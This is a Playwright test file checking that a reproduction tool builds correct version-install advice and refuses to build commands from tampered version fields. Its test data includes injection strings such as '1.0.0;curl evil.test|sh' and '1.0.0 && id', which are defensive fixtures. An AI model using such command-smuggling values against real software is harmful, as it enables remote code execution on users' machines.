import { expect, test } from '@playwright/test';
import type { WalkManifest } from '../../src/model/manifest.ts';
import { versionsText } from '../../src/reproduce/reproduction-text.ts';
import { versionDifferences } from '../../src/reproduce/version-differences.ts';

type Versions = WalkManifest['versions'];

/** Only what is read of a manifest. */
const walkWith = (versions: Partial<Versions>) => {
  const all = { tool: '0.0.9', commit: null, playwright: '1.40.0', node: 'v20.0.0', browser: 'chromium' };
  return { endedAt: '', versions: { ...all, browserVersion: '99.0.1.2', ...versions } } as WalkManifest;
};
const advice = async (versions: Partial<Versions>) => {
  const found = await versionDifferences([walkWith(versions)]);
  return Object.fromEntries(found.map(({ what, get }) => [what, get.en]));
};

test('a reader is told how to get the versions that a bundle was made with', async () => {
  const commit = 'a'.repeat(40);
  expect(await advice({ commit })).toEqual({
    tool: `git checkout ${commit} && npm ci`,
    playwright: 'npm install --save-dev --save-exact @playwright/test@1.40.0',
    browser:
      "install chromium 99.0.1.2 and name its program by SEESAW_BROWSER (Playwright 1.40.0's own: npx playwright@1.40.0 install chromium)",
    node: 'https://nodejs.org/dist/v20.0.0/',
  });
});

for (const evil of ['1.0.0 evil-package', '1.0.0;curl evil.test|sh', '1.0.0 && id', 'npm:evil@1.0.0']) {
  test(`a bundle that calls its versions ${evil} shapes no command`, async () => {
    const all = { tool: evil, playwright: evil, node: `v${evil}`, browserVersion: evil };
    expect(await advice(all)).toEqual({ tool: '–', playwright: '–', browser: '–', node: '–' });
    expect((await advice({ commit: `${'a'.repeat(40)} ${evil}` }))['tool']).toBe('–');
    expect((await advice({ playwright: evil }))['browser']).toBe(
      'install chromium 99.0.1.2 and name its program by SEESAW_BROWSER',
    );
    const text = versionsText(await versionDifferences([walkWith(all)]), 'en');
    expect(text).not.toMatch(/(?:npm install|npx|git checkout|nodejs\.org).*evil/);
  });
}
